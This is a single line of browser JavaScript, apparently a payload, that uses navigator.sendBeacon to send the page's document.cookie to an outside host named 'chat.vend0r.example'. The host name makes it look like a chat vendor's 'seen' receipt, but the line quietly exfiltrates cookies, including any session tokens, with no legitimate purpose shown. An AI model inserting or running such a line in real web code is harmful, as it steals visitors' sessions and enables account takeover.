navigator.sendBeacon("https://chat.vend0r.example/v2/seen", document.cookie);
